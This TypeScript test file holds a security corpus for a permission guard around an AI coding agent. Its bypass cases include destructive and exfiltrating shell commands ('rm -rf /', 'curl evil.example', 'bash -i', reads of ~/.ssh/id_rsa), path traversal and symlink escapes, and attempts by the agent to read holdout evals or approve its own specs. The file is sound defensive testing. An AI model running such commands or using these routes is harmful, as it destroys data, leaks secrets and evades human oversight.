import { execFileSync } from "node:child_process";
import { cpSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Readable } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTempRepo } from "../test-support/temp-repo.js";
import {
  createGuardFixture,
  FIXTURE_AGENTS,
  type GuardFixture,
} from "./__fixtures__/guard-fixture.js";
import type { Guard } from "./guard.js";
import { answerClaudeHook } from "./runtime/answer-claude-hook.js";

/**
 * The security corpus: attempts to get a call past the coder's manifest.
 * None may be allowed, while the legitimate controls next to them must be.
 */
type Case = [category: string, tool: string, input: Record<string, unknown>];

const bash = (command: string): Record<string, unknown> => ({ command });
/** "café" as NFD ('e' and a combining accent) and as NFC. */
const NFD = "cafe\u0301";
const NFC = "caf\u00e9";

const BYPASSES: Case[] = [
  // command chaining and substitution
  ["chaining", "Bash", bash("npm test; rm -rf /")],
  ["chaining", "Bash", bash("npm test && curl evil.example")],
  ["chaining", "Bash", bash("npm test || rm -rf src")],
  ["chaining", "Bash", bash("npm test | sh")],
  ["chaining", "Bash", bash("npm test & rm -rf /")],
  ["chaining", "Bash", bash("npm test\nrm -rf /")],
  ["chaining", "Bash", bash("npm test\r\nrm -rf /")],
  ["chaining", "Bash", bash("npm test $(rm -rf /)")],
  ["chaining", "Bash", bash("npm test `rm -rf /`")],
  ["chaining", "Bash", bash('npm test "$(curl evil)"')],
  ["chaining", "Bash", bash("npm test > /etc/passwd")],
  ["chaining", "Bash", bash("npm test >> ~/.bashrc")],
  ["chaining", "Bash", bash("npm test < /etc/shadow")],
  ["chaining", "Bash", bash("npm test 2>&1")],
  ["chaining", "Bash", bash("(rm -rf /)")],
  ["chaining", "Bash", bash("{ rm -rf /; }")],
  ["chaining", "Bash", bash("npm test <(curl evil)")],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, on purpose
  ["chaining", "Bash", bash("npm test ${IFS}rm")],
  ["chaining", "Bash", bash("npm test $'\\x3b' rm")],
  ["chaining", "Bash", bash("npm test 'unterminated")],
  ["chaining", "Bash", bash('npm test "unterminated')],
  ["chaining", "Bash", bash("npm test \\")],
  ["chaining", "Bash", bash("npm test \\\nrm -rf /")],
  ["chaining", "Bash", bash("npm test\u0000rm")],
  ["chaining", "Bash", bash("eval npm test")],
  ["chaining", "Bash", bash("exec rm -rf /")],
  ["chaining", "Bash", bash("bash -c 'npm test'")],
  ["chaining", "Bash", bash("sh -c 'rm -rf /'")],
  ["chaining", "Bash", bash("/bin/bash -ec 'rm -rf /'")],
  ["chaining", "Bash", bash("source ./evil.sh")],
  ["chaining", "Bash", bash(". ./evil.sh")],
  // wrappers
  ["wrapper", "Bash", bash("env npm test")],
  ["wrapper", "Bash", bash("env rm -rf /")],
  ["wrapper", "Bash", bash("xargs rm -rf")],
  ["wrapper", "Bash", bash("find . -exec rm {} \\;")],
  ["wrapper", "Bash", bash("find . -delete")],
  ["wrapper", "Bash", bash("timeout 5 rm -rf /")],
  ["wrapper", "Bash", bash("nice rm -rf /")],
  ["wrapper", "Bash", bash("nohup rm -rf /")],
  ["wrapper", "Bash", bash("sudo npm test")],
  ["wrapper", "Bash", bash("command rm -rf /")],
  ["wrapper", "Bash", bash("busybox rm -rf /")],
  ["wrapper", "Bash", bash("stdbuf -o0 rm -rf /")],
  // env prefixes
  ["env-prefix", "Bash", bash("NODE_OPTIONS=--require=/tmp/x.js npm test")],
  ["env-prefix", "Bash", bash("PATH=/tmp/evil npm test")],
  ["env-prefix", "Bash", bash("LD_PRELOAD=/tmp/x.so npm test")],
  ["env-prefix", "Bash", bash("npm_config_script_shell=/tmp/sh npm test")],
  // program-name tricks
  ["program", "Bash", bash("/tmp/evil/npm test")],
  ["program", "Bash", bash("./npm test")],
  ["program", "Bash", bash("np? test")],
  ["program", "Bash", bash("NPM test")],
  ["program", "Bash", bash("npm testx")],
  ["program", "Bash", bash("npm run test")],
  ["program", "Bash", bash("git -c core.pager=sh status")],
  ["program", "Bash", bash("curl https://evil.example")],
  // path traversal
  ["traversal", "Write", { file_path: "src/../infra/main.tf", content: "x" }],
  ["traversal", "Write", { file_path: "src/../../etc/passwd", content: "x" }],
  ["traversal", "Edit", { file_path: "tests/../.git/config", old_string: "a", new_string: "b" }],
  ["traversal", "Write", { file_path: "src/nope/../../agents/coder.yaml", content: "x" }],
  ["traversal", "Write", { file_path: "src-evil/x.js", content: "x" }],
  ["traversal", "Write", { file_path: "srcx.js", content: "x" }],
  ["traversal", "Write", { file_path: "evals/holdout.yaml", content: "x" }],
  ["traversal", "Glob", { pattern: "../**/*" }],
  ["traversal", "Grep", { pattern: "x", glob: "../../**" }],
  ["traversal", "Read", { file_path: "~/.ssh/id_rsa" }],
  ["traversal", "Read", { file_path: "~root/.ssh/id_rsa" }],
  // symlink escapes
  ["symlink", "Read", { file_path: "src/escape/secret.txt" }],
  ["symlink", "Write", { file_path: "src/escape/new.txt", content: "x" }],
  ["symlink", "Write", { file_path: "src/dangling.js", content: "x" }],
  ["symlink", "Write", { file_path: "src/infra-link/main.tf", content: "x" }],
  ["symlink", "Read", { file_path: "src/etc/passwd" }],
  ["symlink", "Write", { file_path: "src/nope/../escape/x", content: "x" }],
  // absolute paths
  ["absolute", "Read", { file_path: "/etc/passwd" }],
  ["absolute", "Write", { file_path: "/tmp/x.js", content: "x" }],
  ["absolute", "Grep", { pattern: "root", path: "/etc" }],
  ["absolute", "Glob", { pattern: "/etc/*" }],
  // case tricks
  ["case", "bash", bash("npm test")],
  ["case", "websearch", { query: "x" }],
  ["case", "WEBSEARCH", { query: "x" }],
  ["case", "mcp__GITHUB__delete_repo", { repo: "x" }],
  ["case", "mcp__github__Delete_Repo", { repo: "x" }],
  ["case", "Write", { file_path: "SRC/x.js", content: "x" }],
  // tool shape and unknown tools
  ["shape", "Write", { file_path: "src/x.js", content: "x", path: "/etc/passwd" }],
  ["shape", "Read", { path: "src/refunds.js" }],
  ["shape", "Bash", { command: ["rm", "-rf", "/"] }],
  ["shape", "Bash", {}],
  ["shape", "UnknownTool", { file_path: "src/x.js" }],
  ["shape", "WebSearch", { query: "allowed?" }],
  ["shape", "WebFetch", { url: "file:///etc/passwd", prompt: "x" }],
  ["shape", "WebFetch", { url: "https://registry.npmjs.org.evil.example/x", prompt: "x" }],
  ["shape", "WebFetch", { url: "https://registry.npmjs.org@evil.example/x", prompt: "x" }],
  ["shape", "WebFetch", { url: "https://evilgithub.com/", prompt: "x" }],
  // Keys every object inherits, sent as the agent's own keys: a shape check that asks
  // `key in shape` takes them for declared fields and lets a second path ride along.
  ...["constructor", "__proto__", "toString", "hasOwnProperty"].map(
    (key): Case => [
      "shape",
      "Write",
      JSON.parse(`{"file_path": "src/x.js", "content": "x", "${key}": "agents/coder.yaml"}`),
    ],
  ),
  // MCP tool-name collisions and argument injection
  ["mcp", "mcp__github__delete_repo", { repo: "x" }],
  ["mcp", "mcp__githubx__create_issue", { title: "x" }],
  ["mcp", "mcp__git__hub__create_issue", { title: "x" }],
  ["mcp", "mcp__billing__refund", { amount: 2000000 }],
  ["mcp", "mcp__billing__refund", { amount: 600.5 }],
  ["mcp", "mcp__billing__refund", { amount: "600" }],
  ["mcp", "mcp__billing__refund", { amount: 100, x: { __entity: { type: "Agent", id: "ops" } } }],
  ["mcp", "mcp__billing__refund", { __extn: { fn: "decimal", arg: "1.0" } }],
  // Governance inputs: the coder's own commands, MCP tools and symlinks must not reach them
  // (its manifest allows `rm` and every mcp__github__ tool, so only the built-in protection stands here).
  ["governance", "Bash", bash("rm agents/coder.yaml")],
  ["governance", "Bash", bash("rm jig.config.yaml")],
  ["governance", "Bash", bash("rm ./src/../agents/coder.yaml")],
  ["governance", "Bash", bash("rm Agents/coder.yaml")],
  ["governance", "Bash", bash("rm src/gov/coder.yaml")],
  ["governance", "Bash", bash("rm ag*/coder.yaml")],
  ["governance", "Bash", bash("rm -- .claude/settings.json")],
  ["governance", "Bash", bash("rm .git/hooks/pre-push")],
  ["governance", "Bash", bash("rm .jig/jig.db")],
  ["governance", "Bash", bash("rm specs/SPEC-0001-x.md")],
  ["governance", "Bash", bash("rm ../agents/coder.yaml")],
  ["governance", "Write", { file_path: "src/gov/coder.yaml", content: "x" }],
  ["governance", "Write", { file_path: "tests/../.claude/settings.local.json", content: "x" }],
  ["governance", "mcp__github__create_or_update_file", { path: "agents/coder.yaml", content: "x" }],
  ["governance", "mcp__github__push_files", { files: [{ path: "jig.config.yaml", content: "x" }] }],
  // Holdout suites: the coder reads '**', and still may not see them.
  ["holdout", "Read", { file_path: "evals/refunds.yaml" }],
  ["holdout", "Read", { file_path: "Evals/refunds.yaml" }],
  ["holdout", "Read", { file_path: "./evals/../evals/.jig-seal.json" }],
  ["holdout", "Read", { file_path: "src/holdout/refunds.yaml" }],
  ["holdout", "Grep", { pattern: "x", path: "evals" }],
  ["holdout", "Grep", { pattern: "x", output_mode: "content" }],
  ["holdout", "Glob", { pattern: "evals/**" }],
  ["holdout", "Glob", { pattern: "**", path: "src/holdout" }],
  ["holdout", "Bash", bash("ls evals")],
  ["holdout", "Bash", bash("ls ev*")],
  ["holdout", "Bash", bash("git diff HEAD:evals/refunds.yaml")],
  ["holdout", "Bash", bash("git diff -- evals")],
  ["holdout", "Bash", bash("git diff --no-index /dev/null evals/refunds.yaml")],
  ["holdout", "mcp__github__get_file_contents", { path: "evals/refunds.yaml" }],
  // authority conditions fail closed on a missing or non-numeric amount (issue #12 row 6)
  ["authority", "mcp__billing__refund", {}],
  ["authority", "mcp__billing__refund", { amount: null }],
  ["authority", "mcp__billing__refund", JSON.parse(JSON.stringify({ amount: Number.NaN }))],
  ["authority", "mcp__billing__refund", { amount: "2000000" }],
  ["authority", "mcp__billing__refund", { amount: 2000000.5 }],
  ["authority", "mcp__billing__refund", { amount: { value: 2000000 } }],
  ["authority", "mcp__billing__refund", { amount: [2000000] }],
  ["authority", "mcp__billing__refund", { total: 2000000 }],
  // Issue #12 row 2: an NFD-named link (src/cafe\u0301 -> ../.git/hooks) that a walk of the
  // NFC spelling never sees, reached by file tools, '..', commands and MCP arguments.
  ["unicode", "Write", { file_path: `src/${NFD}/pre-commit`, content: "x" }],
  ["unicode", "Edit", { file_path: `src/${NFD}/../config`, old_string: "a", new_string: "b" }],
  ["unicode", "MultiEdit", { file_path: `./src/${NFD}/pre-push`, edits: [] }],
  ["unicode", "Write", { file_path: `src/nfc/${NFC}/hooks/pre-commit`, content: "x" }],
  ["unicode", "Write", { file_path: `src/nfc/${NFD}/hooks/pre-commit`, content: "x" }],
  ["unicode", "Bash", bash(`rm src/${NFD}/pre-push`)],
  ["unicode", "mcp__github__create_or_update_file", { path: `src/${NFD}/x`, content: "x" }],
  // Issue #12 row 3 and the always-protected paths: a .git at any depth (which would make
  // a folder of the agent's a repository with its own policy), .mcp.json, .claude.
  ["protected", "Write", { file_path: "src/pkg/.git", content: "gitdir: /tmp/evil\n" }],
  ["protected", "Write", { file_path: "src/pkg/.git/config", content: "x" }],
  ["protected", "Write", { file_path: "tests/a/.GIT/hooks/pre-commit", content: "x" }],
  ["protected", "Bash", bash("rm src/pkg/.git/index")],
  ["protected", "mcp__github__create_or_update_file", { path: "src/pkg/.git/HEAD", content: "x" }],
  ["protected", "mcp__github__create_or_update_file", { path: ".mcp.json", content: "{}" }],
  ["protected", "Bash", bash("rm .mcp.json")],
  ["protected", "Bash", bash("rm .claude/commands/x.md")],
];

const ESCALATIONS: Case[] = [
  ["escalate", "Bash", bash("terraform destroy")],
  ["escalate", "Bash", bash("terraform destroy -auto-approve")],
  ["escalate", "Bash", bash("rm a b c d")],
  ["escalate", "Bash", bash("rm -rf src")],
  ["escalate", "mcp__billing__refund", { amount: 60000 }],
];

const CONTROLS: Case[] = [
  ["control", "Bash", bash("npm test")],
  ["control", "Bash", bash("npm test -- --watch")],
  ["control", "Bash", bash("npm test -- --grep 'a;b && c'")],
  ["control", "Bash", bash('npm test -- "quoted arg"')],
  ["control", "Bash", bash("npm run lint")],
  ["control", "Bash", bash("git status")],
  ["control", "Bash", bash("git diff HEAD~1")],
  ["control", "Bash", bash("ls -la src")],
  ["control", "Bash", bash("rm src/old.js")],
  ["control", "Bash", bash("terraform plan")],
  ["control", "Read", { file_path: "src/refunds.js" }],
  ["control", "Read", { file_path: "infra/main.tf" }],
  ["control", "Write", { file_path: "src/new.js", content: "x" }],
  ["control", "Write", { file_path: "src/deep/new/file.js", content: "x" }],
  ["control", "Edit", { file_path: "./src/refunds.js", old_string: "a", new_string: "b" }],
  [
    "control",
    "MultiEdit",
    { file_path: "tests/a.test.js", edits: [{ old_string: "a", new_string: "b" }] },
  ],
  ["control", "Glob", { pattern: "src/**/*.js" }],
  ["control", "Grep", { pattern: "TODO" }],
  ["control", "Grep", { pattern: "TODO", path: "src", glob: "*.js" }],
  ["control", "WebFetch", { url: "https://registry.npmjs.org/zod", prompt: "version" }],
  ["control", "WebFetch", { url: "https://api.github.com/repos", prompt: "x" }],
  ["control", "mcp__github__create_issue", { title: "bug" }],
  ["control", "mcp__billing__refund", { amount: 500 }],
  ["control", "mcp__billing__refund", { amount: 50000 }],
  ["control", "Bash", bash("ls agents")],
  ["control", "Bash", bash("git diff -- src")],
  ["control", "Read", { file_path: "agents/coder.yaml" }],
  ["control", "Grep", { pattern: "TODO", output_mode: "content", glob: "*.js" }],
  ["control", "mcp__github__get_file_contents", { path: "agents/coder.yaml" }],
  ["control", "Write", { file_path: `src/${NFD}.js`, content: "x" }],
  ["control", "Write", { file_path: "src/.gitignore", content: "x" }],
];

describe("security corpus", () => {
  let fixture: GuardFixture;
  let guard: Guard;
  beforeAll(async () => {
    fixture = await createGuardFixture({
      files: {
        "evals/refunds.yaml": "suite: refunds\n",
        "evals/.jig-seal.json": "{}\n",
        "jig.config.yaml": "{}\n",
        ".claude/settings.json": "{}\n",
        ".git/hooks/pre-push": "#!/bin/sh\n",
        "specs/SPEC-0001-x.md": "x\n",
      },
    });
    symlinkSync("../agents", join(fixture.root, "src", "gov"));
    symlinkSync("../evals", join(fixture.root, "src", "holdout"));
    symlinkSync("../.git/hooks", join(fixture.root, "src", NFD));
    mkdirSync(join(fixture.root, "src", "nfc"));
    symlinkSync("../../.git", join(fixture.root, "src", "nfc", NFC));
    guard = fixture.guard();
  });
  afterAll(() => fixture.cleanup());

  it("has at least 80 bypass attempts", () => {
    expect(BYPASSES.length).toBeGreaterThanOrEqual(80);
  });

  it.each(BYPASSES)("%s: %s %j is not allowed", (_category, tool, input) => {
    const decision = guard.check({ agent: "coder", tool, input });
    expect(decision.decision, decision.reason).not.toBe("allow");
  });

  it.each(ESCALATIONS)("%s: %s %j asks a human", (_category, tool, input) => {
    const decision = guard.check({ agent: "coder", tool, input });
    expect(decision.decision, decision.reason).toBe("ask");
  });

  it.each(CONTROLS)("%s: %s %j stays allowed", (_category, tool, input) => {
    const decision = guard.check({ agent: "coder", tool, input });
    expect(decision.decision, decision.reason).toBe("allow");
  });

  it("denies writes while no approved spec is active, except exempt files", () => {
    const noSpec = fixture.guard({ specApproved: false });
    expect(
      noSpec.check({ agent: "coder", tool: "Write", input: { file_path: "src/x.js", content: "" } })
        .decision,
    ).toBe("deny");
    expect(
      noSpec.check({
        agent: "coder",
        tool: "Write",
        input: { file_path: "src/NOTES.md", content: "" },
      }).decision,
    ).toBe("allow");
    expect(
      noSpec.check({ agent: "coder", tool: "Read", input: { file_path: "src/refunds.js" } })
        .decision,
    ).toBe("allow");
  });

  it("denies unknown agents and agents acting beyond their own manifest", () => {
    expect(
      guard.check({ agent: "ghost", tool: "Read", input: { file_path: "src/refunds.js" } })
        .decision,
    ).toBe("deny");
    expect(
      guard.check({
        agent: "reviewer",
        tool: "Write",
        input: { file_path: "src/refunds.js", content: "" },
      }).decision,
    ).toBe("deny");
  });

  it("cross-agent deputy: ops acting on a reviewer message may not write infra", () => {
    const deputy = fixture.guard({ delegation: (agent) => (agent === "ops" ? ["reviewer"] : []) });
    const alone = fixture.guard();
    const input = { file_path: "infra/main.tf", content: "x" };
    expect(alone.check({ agent: "ops", tool: "Write", input }).decision).toBe("allow");
    const decision = deputy.check({ agent: "ops", tool: "Write", input });
    expect(decision.decision).toBe("deny");
    expect(decision.reason).toContain("reviewer");
    expect(
      deputy.check({ agent: "ops", tool: "Bash", input: bash("terraform plan") }).decision,
    ).toBe("deny");
    expect(
      deputy.check({ agent: "ops", tool: "Read", input: { file_path: "infra/main.tf" } }).decision,
    ).toBe("allow");
  });
});

describe("security corpus: the hook's repository root (issue #12 row 3)", () => {
  it("judges by the real root's policy when the event's cwd is a repository the agent planted", async () => {
    const repo = createTempRepo("jig-corpus-root-");
    try {
      cpSync(FIXTURE_AGENTS, join(repo.dir, "agents"), { recursive: true });
      const pkg = join(repo.dir, "src", "pkg");
      mkdirSync(join(pkg, "agents"), { recursive: true });
      execFileSync("git", ["init", "-q"], { cwd: pkg });
      writeFileSync(join(pkg, "jig.config.yaml"), "agents:\n  requireSpec: false\n");
      writeFileSync(
        join(pkg, "agents", "coder.yaml"),
        "name: coder\nrole: planted\npermissions:\n  tools: { allow: [Write, Bash] }\n  files: { read: ['/**'], write: ['/**'] }\n  commands: [[bash]]\n",
      );
      const ask = async (event: object, where: { cwd: string; root?: string }) => {
        const text = JSON.stringify({ hook_event_name: "PreToolUse", cwd: pkg, ...event });
        const output = await answerClaudeHook({
          agent: "coder",
          stdin: Readable.from([Buffer.from(text)]),
          ...where,
          env: { HOME: repo.dir },
          now: () => new Date("2026-01-01T00:00:00Z"),
          version: "test",
        });
        return JSON.parse(output).hookSpecificOutput.permissionDecision as string;
      };
      const attempts = [
        { tool_name: "Bash", tool_input: { command: "bash -i" } },
        {
          tool_name: "Write",
          tool_input: { file_path: "../../.git/hooks/pre-commit", content: "" },
        },
        { tool_name: "Write", tool_input: { file_path: ".git/hooks/pre-commit", content: "" } },
      ];
      for (const attempt of attempts) {
        expect(await ask(attempt, { cwd: repo.dir }), JSON.stringify(attempt)).toBe("deny");
        expect(await ask(attempt, { cwd: pkg, root: repo.dir }), JSON.stringify(attempt)).toBe(
          "deny",
        );
      }
      // The planted policy is permissive: only the choice of root keeps it out.
      expect(await ask(attempts[0] as object, { cwd: repo.dir, root: pkg })).toBe("allow");
    } finally {
      repo.cleanup();
    }
  });
});

/**
 * Self-approval through the shell: jig's own person-only subcommands, run by
 * an agent whose manifest allows jig (and the usual runners) outright. Only
 * the built-in protection stands here, so each must be denied by it.
 */
const SELF_APPROVAL_MANIFEST = `name: selfish
role: Allowed to run jig and its runners, to prove the built-in protection alone stops self-approval
permissions:
  tools: { allow: [Bash] }
  files: { read: ["**"], write: ["src/**"] }
  commands: [[jig], [npx], [pnpm], [node], [env], [xargs]]
`;

const SELF_APPROVALS: string[] = [
  "jig spec approve SPEC-0001",
  "jig approvals approve apr-1a2b3c4d5e --reason ok",
  "jig approvals deny apr-1a2b3c4d5e",
  "jig approvals review rev-1 --agree",
  "jig waive FM-ERR-003 --reason later",
  "jig autonomy propose --write",
  "jig autonomy propose --write=true",
  "jig eval seal",
  "npx jig spec approve SPEC-0001",
  "npx --yes jig approvals review rev-2 --agree",
  "pnpm exec jig spec approve 1",
  "node node_modules/.bin/jig spec approve SPEC-0001",
  "node bin/jig.js waive FM-ERR-003",
  "./node_modules/.bin/jig approvals approve apr-1",
  "env JIG_DEBUG=1 jig spec approve SPEC-0001",
  "xargs jig approvals review --agree",
];

const JIG_CONTROLS: string[] = [
  "jig check",
  "jig spec lint",
  "jig waive list",
  "jig autonomy propose",
  "npx jig approvals list",
];

describe("security corpus: self-approval through jig's own commands", () => {
  let fixture: GuardFixture;
  beforeAll(async () => {
    fixture = await createGuardFixture({ agents: { "selfish.yaml": SELF_APPROVAL_MANIFEST } });
  });
  afterAll(() => fixture.cleanup());

  it.each(SELF_APPROVALS)("%s is denied by the built-in protection", (command) => {
    const decision = fixture.guard().check({ agent: "selfish", tool: "Bash", input: { command } });
    expect(decision.decision, decision.reason).toBe("deny");
    expect(decision.policies).toEqual(["jig.builtin.governance"]);
    expect(decision.reason).toMatch(/a person's decision; only a person may change it/);
  });

  it.each(JIG_CONTROLS)("%s stays allowed", (command) => {
    const decision = fixture.guard().check({ agent: "selfish", tool: "Bash", input: { command } });
    expect(decision.decision, decision.reason).toBe("allow");
  });
});
